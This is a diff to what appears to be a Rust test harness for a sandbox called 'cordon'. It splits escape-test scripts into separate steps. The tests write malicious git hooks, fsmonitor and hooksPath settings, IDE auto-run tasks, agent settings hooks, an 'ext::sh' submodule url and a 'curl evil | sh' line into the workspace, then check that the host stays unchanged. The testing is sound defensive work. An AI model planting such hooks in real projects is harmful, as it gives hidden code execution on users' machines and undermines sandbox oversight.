@@ -176,14 +176,14 @@ fn harness_err(e: String) -> Outcome {
     Outcome::new(Verdict::Inconclusive, format!("harness: {e}"))
 }
 
-/// Plants `files` (relative to the workspace), runs `script`, and judges that `watch` did not
-/// change on the host.
+/// Plants `files` (relative to the workspace), runs `steps` (each one judged to have run), and
+/// judges that `watch` did not change on the host.
 fn guarded(
     ctx: &Ctx<'_>,
     with_repo: bool,
     files: &[(&str, &str)],
     watch: &[&str],
-    script: &str,
+    steps: &[&str],
 ) -> Outcome {
     if with_repo && let Err(e) = repo(ctx, &ctx.work) {
         return harness_err(e);
@@ -193,9 +193,12 @@ fn guarded(
             return harness_err(e);
         }
     }
+    if let Err(e) = ctx.scratch() {
+        return harness_err(e);
+    }
     let watch: Vec<PathBuf> = watch.iter().map(|w| ctx.work.join(w)).collect();
     let before = snapshot(&watch);
-    let out = ctx.sh(script);
+    let out = ctx.sh_steps(steps);
     let after = snapshot(&watch);
     ctx.judge(&out, before != after, diff(&before, &after))
 }
@@ -206,9 +209,13 @@ fn git_hooks(ctx: &Ctx<'_>) -> Outcome {
         true,
         &[],
         &[".git/hooks"],
-        "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
-         cp .git/hooks/post-checkout.sample .git/hooks/post-checkout; rm -f .git/hooks/*.sample; \
-         ln -s /bin/true .git/hooks/post-merge",
+        &[
+            "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit",
+            "chmod +x .git/hooks/pre-commit",
+            "cp .git/hooks/post-checkout.sample .git/hooks/post-checkout",
+            "rm -f .git/hooks/*.sample",
+            "ln -s /bin/true .git/hooks/post-merge",
+        ],
     )
 }
 
@@ -218,10 +225,14 @@ fn git_config(ctx: &Ctx<'_>) -> Outcome {
         true,
         &[],
         &[".git/config"],
-        "git config core.hooksPath ./evil-hooks; git config core.fsmonitor 'touch /tmp/pwned'; \
-         printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config; \
-         cp .git/config cfg && echo '[alias] st = !sh' >> cfg && cp cfg .git/config; \
-         sed -i 's/bare = false/bare = false\\n\\tpager = sh/' .git/config; chmod 666 .git/config",
+        &[
+            "git config core.hooksPath ./evil-hooks",
+            "git config core.fsmonitor 'touch /tmp/pwned'",
+            "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config",
+            "cp .git/config scratch/cfg && echo '[alias] st = !sh' >> scratch/cfg && cp scratch/cfg .git/config",
+            "sed -i 's/bare = false/bare = false\\n\\tpager = sh/' .git/config",
+            "chmod 666 .git/config",
+        ],
     )
 }
 
@@ -231,11 +242,16 @@ fn git_dir_rename(ctx: &Ctx<'_>) -> Outcome {
         true,
         &[],
         &[".git"],
-        "mv .git .git-moved || mv .git/hooks .git/hooks-moved; mkdir -p .git/hooks; \
-         printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
-         cp -r .git-moved/objects .git-moved/refs .git-moved/HEAD .git/ 2>/dev/null; \
-         printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/config; \
-         python3 -c 'import os; os.rename(\".git\", \".git-py\")' 2>/dev/null; rmdir .git 2>/dev/null",
+        &[
+            "mv .git .git-moved || mv .git/hooks .git/hooks-moved",
+            "mkdir -p .git/hooks",
+            "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit",
+            "chmod +x .git/hooks/pre-commit",
+            "cp -r .git-moved/objects .git-moved/refs .git-moved/HEAD .git/ 2>/dev/null",
+            "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/config",
+            "python3 -c 'import os; os.rename(\".git\", \".git-py\")' 2>/dev/null",
+            "rmdir .git 2>/dev/null",
+        ],
     )
 }
 
@@ -245,9 +261,12 @@ fn git_commondir(ctx: &Ctx<'_>) -> Outcome {
         true,
         &[],
         &[".git/commondir", ".git/config", ".git/hooks"],
-        "mkdir -p .evil-common && cp -r .git/objects .git/refs .git/HEAD .evil-common/ && \
-         printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch /tmp/pwned\\n' > .evil-common/config; \
-         echo ../.evil-common > .git/commondir; echo evil > .git/config.worktree",
+        &[
+            "mkdir -p scratch/evil-common && cp -r .git/objects .git/refs .git/HEAD scratch/evil-common/ && \
+             printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch /tmp/pwned\\n' > scratch/evil-common/config",
+            "echo ../scratch/evil-common > .git/commondir",
+            "echo evil > .git/config.worktree",
+        ],
     )
 }
 
@@ -260,8 +279,12 @@ fn control_dir(ctx: &Ctx<'_>) -> Outcome {
             (".cordon.toml", "[limits]\ntimeout_secs = 100\n"),
         ],
         &[".cordon", ".cordon.toml"],
-        "echo '{\"evil\": true}' > .cordon/state.json; echo evil > .cordon/new; \
-         printf '[network]\\nmode = \"allow\"\\n' >> .cordon.toml; rm -rf .cordon/*",
+        &[
+            "echo '{\"evil\": true}' > .cordon/state.json",
+            "echo evil > .cordon/new",
+            "printf '[network]\\nmode = \"allow\"\\n' >> .cordon.toml",
+            "rm -rf .cordon/*",
+        ],
     )
 }
 
@@ -275,9 +298,12 @@ fn ide_settings(ctx: &Ctx<'_>) -> Outcome {
             (".devcontainer/devcontainer.json", "{}\n"),
         ],
         &[".vscode", ".idea", ".devcontainer"],
-        "echo '{\"terminal.integrated.env.linux\": {\"PATH\": \"/evil\"}}' > .vscode/settings.json; \
-         echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"},\"command\":\"evil\"}]}' > .vscode/tasks.json; \
-         echo evil > .idea/workspace.xml; echo '{\"postStartCommand\": \"evil\"}' > .devcontainer/devcontainer.json",
+        &[
+            "echo '{\"terminal.integrated.env.linux\": {\"PATH\": \"/evil\"}}' > .vscode/settings.json",
+            "echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"},\"command\":\"evil\"}]}' > .vscode/tasks.json",
+            "echo evil > .idea/workspace.xml",
+            "echo '{\"postStartCommand\": \"evil\"}' > .devcontainer/devcontainer.json",
+        ],
     )
 }
 
@@ -293,9 +319,13 @@ fn auto_run_files(ctx: &Ctx<'_>) -> Outcome {
             (".gitmodules", ""),
         ],
         &[".envrc", ".mcp.json", ".claude", ".husky", ".gitmodules"],
-        "echo 'curl evil | sh' >> .envrc; echo '{\"mcpServers\":{\"x\":{\"command\":\"evil\"}}}' > .mcp.json; \
-         echo '{\"hooks\":{\"PreToolUse\":[{\"command\":\"evil\"}]}}' > .claude/settings.json; \
-         echo evil > .husky/pre-commit; printf '[submodule \"x\"]\\n\\turl = ext::sh -c evil\\n' > .gitmodules",
+        &[
+            "echo 'curl evil | sh' >> .envrc",
+            "echo '{\"mcpServers\":{\"x\":{\"command\":\"evil\"}}}' > .mcp.json",
+            "echo '{\"hooks\":{\"PreToolUse\":[{\"command\":\"evil\"}]}}' > .claude/settings.json",
+            "echo evil > .husky/pre-commit",
+            "printf '[submodule \"x\"]\\n\\turl = ext::sh -c evil\\n' > .gitmodules",
+        ],
     )
 }
 
@@ -309,9 +339,14 @@ fn replace(ctx: &Ctx<'_>) -> Outcome {
             (".cordon/state.json", "{}\n"),
         ],
         &[".git/hooks", ".git/config", ".vscode", ".envrc", ".cordon"],
-        "for p in .git/hooks .git/config .vscode .envrc .cordon; do rm -rf \"$p\"; mv \"$p\" \"$p.old\"; done; \
-         echo evil > evil; for p in .git/config .envrc; do mv -f evil \"$p\"; cp evil \"$p\"; done; \
-         mkdir -p evil-dir; mv -T evil-dir .vscode; ln -sfn /tmp .cordon",
+        &[
+            "for p in .git/hooks .git/config .vscode .envrc .cordon; do rm -rf \"$p\"; mv \"$p\" \"$p.old\"; done",
+            "echo evil > scratch/evil",
+            "for p in .git/config .envrc; do mv -f scratch/evil \"$p\"; cp scratch/evil \"$p\"; done",
+            "mkdir -p scratch/evil-dir",
+            "mv -T scratch/evil-dir .vscode",
+            "ln -sfn /tmp .cordon",
+        ],
     )
 }
 
@@ -324,11 +359,11 @@ fn missing_dirs(ctx: &Ctx<'_>) -> Outcome {
         ".husky",
         ".cordon",
     ];
-    let out = ctx.sh(
-        "for d in .vscode .claude .idea .devcontainer .husky .cordon; do mkdir -p \"$d\" && echo evil > \"$d/evil\"; done; \
-         echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"},\"command\":\"evil\"}]}' > .vscode/tasks.json; \
-         echo '{\"hooks\":{\"PreToolUse\":[{\"command\":\"evil\"}]}}' > .claude/settings.json",
-    );
+    let out = ctx.sh_steps(&[
+        "for d in .vscode .claude .idea .devcontainer .husky .cordon; do mkdir -p \"$d\" && echo evil > \"$d/evil\"; done",
+        "echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"},\"command\":\"evil\"}]}' > .vscode/tasks.json",
+        "echo '{\"hooks\":{\"PreToolUse\":[{\"command\":\"evil\"}]}}' > .claude/settings.json",
+    ]);
     let hit: Vec<&str> = names
         .iter()
         .copied()
@@ -374,12 +409,18 @@ fn worktree_attack(ctx: &Ctx<'_>, profile: Option<&str>) -> Outcome {
             return harness_err(e);
         }
     }
-    let script = "c=$(git rev-parse --git-common-dir); a=$(git rev-parse --git-dir); \
-         echo evil > \"$c/hooks/pre-commit\"; git config core.fsmonitor 'touch /tmp/pwned'; \
-         echo '[core] fsmonitor = evil' >> \"$c/config\"; echo evil > \"$a/config.worktree\"; \
-         mkdir -p ../evil-common; echo ../../../../evil-common > \"$a/commondir\"; \
-         echo /tmp/x > \"$a/gitdir\"; echo 'gitdir: ../evil' > .git; \
-         mv \"$a\" \"$a.moved\"";
+    let (script, markers) = super::harness::marked(&[
+        "c=$(git rev-parse --git-common-dir); a=$(git rev-parse --git-dir)",
+        "echo evil > \"$c/hooks/pre-commit\"",
+        "git config core.fsmonitor 'touch /tmp/pwned'",
+        "echo '[core] fsmonitor = evil' >> \"$c/config\"",
+        "echo evil > \"$a/config.worktree\"",
+        "mkdir -p ../evil-common",
+        "echo ../../../../evil-common > \"$a/commondir\"",
+        "echo /tmp/x > \"$a/gitdir\"",
+        "echo 'gitdir: ../evil' > .git",
+        "mv \"$a\" \"$a.moved\"",
+    ]);
     let mut run = ctx
         .cordon()
         .cwd(&wt)
@@ -388,7 +429,10 @@ fn worktree_attack(ctx: &Ctx<'_>, profile: Option<&str>) -> Outcome {
         run = run.no_posture().args(["--profile", p]);
     }
     let full = format!("printf %s {} > .escape-canary; {script}", ctx.token);
-    let out = run.payload(["/bin/sh", "-c", full.as_str()]).run();
+    let out = run
+        .payload(["/bin/sh", "-c", full.as_str()])
+        .expect_steps(markers)
+        .run();
     let after = snapshot(&watch);
     // The canary lives in the default workspace; this case's workspace is the worktree.
     let canary = wt.join(".escape-canary");
